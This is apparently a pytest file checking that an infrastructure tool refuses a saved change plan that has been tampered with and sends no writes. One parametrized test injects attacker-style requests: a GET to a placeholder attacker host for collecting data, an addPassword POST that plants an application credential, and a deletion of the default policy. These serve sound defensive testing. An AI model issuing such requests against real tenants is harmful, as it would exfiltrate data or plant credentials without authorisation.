"""A saved plan is re-derived, never trusted (issue #12, DESIGN §4).

The apply job holds the write identity and reads a plan.json made elsewhere, from files a pull request
controls. Each test below takes a real saved plan, tampers with it as an attacker would, and checks that
`xtap apply plan.json` refuses it with exit 3 and that the emulator received **no write at all**; the
untampered plan applies.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from reconciler.emulator import Emulator
from tests.support.builders import ALL_APPS, ALL_USERS, CON, FAB, TRUST
from tests.support.e2e import use_emulator, write_policies, writes, xtap

NEW = "3d0f5dec-5d3d-455c-8016-e2af1ae4d31a"
STRAY = "a1b2c3d4-e5f6-4a7b-8c9d-0e1f2a3b4c5e"
REFUSED = "xtap: error: the saved plan is refused: {why}; make a new plan. Nothing was changed.\n"

Plan = dict[str, Any]


@pytest.fixture
def emu(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[Emulator]:
    with Emulator(seed="empty") as emulator:
        use_emulator(monkeypatch, emulator)
        monkeypatch.chdir(tmp_path)
        emulator.put_partner({"tenantId": FAB})
        emulator.put_partner({"tenantId": CON, "inboundTrust": TRUST})
        emulator.put_partner({"tenantId": STRAY})  # made in the portal: no file, deleted only with prune
        write_policies(
            tmp_path,
            {
                "fabrikam": {"tenantId": FAB, "inboundTrust": TRUST},
                "contoso": {"tenantId": CON},
                "northwind": {
                    "tenantId": NEW,
                    "b2bCollaborationInbound": {"usersAndGroups": ALL_USERS, "applications": ALL_APPS},
                    "tenantRestrictions": {"usersAndGroups": ALL_USERS, "applications": ALL_APPS},
                },
            },
        )
        yield emulator


def saved_plan(capsys: Any, *flags: str) -> Plan:
    code, _out, err = xtap(capsys, "plan", "--out", "plan.json", *flags)
    assert code == 0, err
    data: Plan = json.loads(Path("plan.json").read_text(encoding="utf-8"))
    return data


def refused(emu: Emulator, capsys: Any, plan: Plan, *flags: str) -> str:
    Path("plan.json").write_text(json.dumps(plan), encoding="utf-8")
    emu.clear_journal()
    code, _out, err = xtap(capsys, "apply", "plan.json", "--auto-approve", *flags)
    assert code == 3, err
    assert writes(emu) == []
    # Not even a batch with a write in it went out (a batch of tenant lookups, to name a deletion, may).
    assert not [
        e
        for e in emu.journal
        if e.path.endswith("$batch") and any(r["method"] != "GET" for r in (e.body or {}).get("requests", []))
    ]
    return err


def request(plan: Plan, method: str, url_end: str) -> dict[str, Any]:
    return next(
        r
        for c in plan["changes"]
        for r in c["requests"]
        if r["method"] == method and r["url"].endswith(url_end)
    )


def test_the_untampered_plan_applies(emu: Emulator, capsys: Any) -> None:
    saved_plan(capsys)
    emu.clear_journal()
    code, out, err = xtap(capsys, "apply", "plan.json", "--auto-approve")
    assert code == 0, out + err
    # Two batches run side by side (the updates; northwind's POST then PATCH): compare as a set, then the chain.
    sent = [(m, p.rsplit("/", 1)[-1], sorted(b or {})) for m, p, b in writes(emu)]
    assert sorted(sent) == sorted(
        [
            ("PATCH", CON, ["inboundTrust"]),
            ("PATCH", FAB, ["inboundTrust"]),
            ("PATCH", NEW, ["tenantRestrictions"]),
            ("POST", "partners", ["b2bCollaborationInbound", "tenantId"]),  # what the Create page documents
        ]
    )
    assert sent.index(("POST", "partners", ["b2bCollaborationInbound", "tenantId"])) < sent.index(
        ("PATCH", NEW, ["tenantRestrictions"])
    )


def test_a_changed_body_value_is_refused(emu: Emulator, capsys: Any) -> None:
    plan = saved_plan(capsys)
    request(plan, "PATCH", FAB)["body"]["inboundTrust"]["isMfaAccepted"] = False
    url = f"/policies/crossTenantAccessPolicy/partners/{FAB}"
    trust = '"isCompliantDeviceAccepted":true,"isHybridAzureADJoinedDeviceAccepted":true'
    assert refused(emu, capsys, plan) == REFUSED.format(
        why=f"it is not the plan these files make (request 2 is PATCH {url} "
        f'{{"inboundTrust":{{{trust},"isMfaAccepted":false}}}}, a fresh plan sends PATCH {url} '
        f'{{"inboundTrust":{{{trust},"isMfaAccepted":true}}}})'
    )


def test_an_added_patch_property_is_refused(emu: Emulator, capsys: Any) -> None:
    plan = saved_plan(capsys)
    request(plan, "PATCH", CON)["body"]["b2bDirectConnectInbound"] = {
        "usersAndGroups": ALL_USERS,
        "applications": ALL_APPS,
    }
    err = refused(emu, capsys, plan)
    assert (
        "it is not the plan these files make (request 1 is PATCH /policies/crossTenantAccessPolicy/partners/"
        in err
    )
    assert "b2bDirectConnectInbound" in err


def test_an_added_delete_is_refused(emu: Emulator, capsys: Any) -> None:
    plan = saved_plan(capsys)
    plan["changes"].append(
        {
            "action": "delete",
            "resource": "partner",
            "name": STRAY,
            "tenantId": STRAY,
            "source": None,
            "properties": [],
            "diffs": [],
            "requests": [
                {"id": "99", "method": "DELETE", "url": f"/policies/crossTenantAccessPolicy/partners/{STRAY}"}
            ],
            "notes": [],
            "description": None,
            "effects": [],
        }
    )
    err = refused(emu, capsys, plan)
    assert err == REFUSED.format(
        why=f"it is not the plan these files make (it deletes ['partner {STRAY}'], a fresh plan deletes nothing)"
    )


@pytest.mark.parametrize(
    "method, url",
    [
        ("DELETE", "/policies/crossTenantAccessPolicy/default"),
        ("POST", "/applications/6f546279-4da5-4b53-a095-09ea0cef9971/addPassword"),
        ("GET", "https://attacker.example/collect"),
    ],
    ids=["foreign-graph-url", "add-password", "non-graph-url"],
)
def test_a_request_no_planner_makes_is_refused(emu: Emulator, capsys: Any, method: str, url: str) -> None:
    plan = saved_plan(capsys)
    request(plan, "PATCH", CON).update(method=method, url=url)
    err = refused(emu, capsys, plan)
    assert f"request 1 is {method} {url} " in err


def test_emptied_refusals_are_refused(emu: Emulator, tmp_path: Path, capsys: Any) -> None:
    (tmp_path / "xtap.yaml").write_text("prune: true\nsafety: {maxDeletes: 0}\n", encoding="utf-8")
    code, _out, _err = xtap(capsys, "plan", "--out", "plan.json")
    assert code == 3  # the deletion of STRAY exceeds maxDeletes 0
    plan = json.loads(Path("plan.json").read_text(encoding="utf-8"))
    assert plan["refusals"] == ["1 partner deletions exceed maxDeletes (0)"]
    plan["refusals"] = []
    err = refused(emu, capsys, plan)
    assert err == REFUSED.format(
        why="it is not the plan these files make (its refusals [] are not the safety gates' "
        "['1 partner deletions exceed maxDeletes (0)'])"
    )


def test_a_flipped_prune_is_refused(emu: Emulator, capsys: Any) -> None:
    plan = saved_plan(capsys)
    plan["prune"] = True
    plan["options"]["prune"] = True
    err = refused(emu, capsys, plan)
    assert err == REFUSED.format(why="the configuration (xtap.yaml, or the flags) changed since it was made")


def test_protected_partners_changed_after_the_plan_are_refused(
    emu: Emulator, tmp_path: Path, capsys: Any
) -> None:
    plan = saved_plan(capsys, "--prune")
    assert request(plan, "DELETE", STRAY)  # planned for deletion while unprotected
    (tmp_path / "xtap.yaml").write_text(f"protectedPartners: [{STRAY}]\n", encoding="utf-8")
    err = refused(emu, capsys, plan)
    assert err == REFUSED.format(why="the configuration (xtap.yaml, or the flags) changed since it was made")
    assert emu.get_partner(STRAY) is not None


@pytest.mark.parametrize(
    "tamper, why",
    [
        (
            lambda p: p["fingerprints"].update(version="0.0.1"),
            "it was made by xtap 0.0.1, this is xtap 0.1.0",
        ),
        (
            lambda p: p["options"].update(ignore=["inboundTrust"]),
            'it is not the plan these files make (its option ignore is ["inboundTrust"], the configuration says [])',
        ),
    ],
    ids=["other-version", "edited-options"],
)
def test_edited_fingerprints_and_options_are_refused(
    emu: Emulator, capsys: Any, tamper: Callable[[Plan], None], why: str
) -> None:
    plan = saved_plan(capsys)
    tamper(plan)
    assert refused(emu, capsys, plan) == REFUSED.format(why=why)
